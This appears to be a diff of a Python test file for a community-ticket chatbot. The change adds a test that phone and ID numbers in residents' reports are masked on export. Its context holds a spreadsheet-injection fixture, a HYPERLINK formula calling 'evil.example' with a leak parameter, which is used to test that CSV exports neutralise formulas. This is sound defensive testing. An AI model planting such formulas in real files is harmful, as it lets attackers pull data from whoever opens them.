@@ -26,13 +26,13 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak=1","3号楼楼道灯坏了")'
 HEADER = "name,phone,building,unit,room,grid,grid_name,verified,roles\n"
 
 
-async def _chat_tickets(url: str) -> None:
-    """Two tickets filed in chat by 张阿姨: a report that starts with a formula (公共设施)
-    and an ordinary one about rubbish (环境卫生)."""
+async def _chat_tickets(url: str, *said: str) -> None:
+    """Tickets filed in chat by 张阿姨 (by default two: a report that starts with a
+    formula (公共设施) and an ordinary one about rubbish (环境卫生))."""
     bot = Yishi(make_settings(url), classifier=KeywordClassifier(), clock=Clock())
     await upgrade(bot.engine)
     await seed_demo(bot.uow)
-    for text in (
+    for text in said or (
         "我要反映问题",
         FORMULA,
         "3号楼2单元",
@@ -71,6 +71,24 @@ async def test_ticket_csv_neutralises_formulas_and_hides_a_configured_category(
     plain = yishi("export", "tickets", cwd=tmp_path)  # default rule: only 邻里纠纷
     assert plain.stdout.count('"reporter": "张阿姨"') == 2
     assert FORMULA.replace('"', '\\"') in plain.stdout, "JSON lines keep the text exactly"
+
+
+async def test_a_phone_typed_into_a_report_is_exported_masked(tmp_path: Path) -> None:
+    """The walk: 电话13812345678 in a report stood in clear in ``yishi export tickets``
+    (csv and jsonl); the export reads the rule's RECORD view, numbers masked."""
+    said = "3号楼2单元楼道灯坏了，电话138 1234 5678，身份证110101199003071234"
+    await _chat_tickets(f"sqlite:///{tmp_path / 'yishi.db'}", said, "确认提交")
+    result = yishi("export", "tickets", "--format", "csv", cwd=tmp_path)
+    assert result.returncode == 0, result.stderr
+    [row] = _csv(result.stdout)
+    assert row["description"] == (
+        "3号楼2单元楼道灯坏了，电话138****5678，身份证110101********1234"
+    ), row
+    assert row["location"] == "3号楼2单元", "no digits of the phone read as a room"
+    lines = yishi("export", "tickets", cwd=tmp_path)
+    assert lines.returncode == 0, lines.stderr
+    assert "138****5678" in lines.stdout and "1234 5678" not in lines.stdout
+    assert "199003071234" not in lines.stdout
 
 
 def test_resident_names_are_neutralised_in_csv(tmp_path: Path) -> None:
